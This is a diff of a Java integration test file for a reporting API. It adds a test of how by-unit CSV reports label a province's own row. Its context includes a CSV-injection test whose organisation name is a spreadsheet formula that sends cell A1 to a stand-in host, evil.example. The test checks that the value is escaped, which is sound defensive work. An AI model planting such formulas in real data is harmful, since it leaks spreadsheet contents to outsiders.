@@ -80,6 +80,21 @@ class ReportFilesIT {
     }
 
     @Test
+    void byUnitTheReportUnitsOwnRowSaysItIsNotTheTotal() throws Exception {
+        Api.Res res = world.reporter.get("/api/v1/reports/indicators?format=csv&period=2026&by=unit"
+                + "&indicators=attendances");
+        try (CSVParser csv = CSVParser.parse(new StringReader(res.body().substring(1)),
+                CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get())) {
+            Map<String, String> byUnit = new TreeMap<>();
+            csv.getRecords().forEach(r -> byUnit.put(r.get("Đơn vị hành chính"), r.get("Giá trị")));
+            String provinceName = world.reporter.get("/api/v1/admin-units/" + world.province).json().get("name").asText();
+            // of the 3 present, one is registered at district A itself, two in communes of A and B
+            assertThat(byUnit).containsEntry(provinceName + " (riêng cấp này, không gồm đơn vị trực thuộc)", "0")
+                    .doesNotContainKey(provinceName);
+        }
+    }
+
+    @Test
     void aNameThatASpreadsheetWouldRunAsAFormulaIsTextInTheCsv() throws Exception {
         String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Hội LHPN\")";
         Api.Res organisation = world.organizer.post("/api/v1/organizations", Map.of("name", formula));
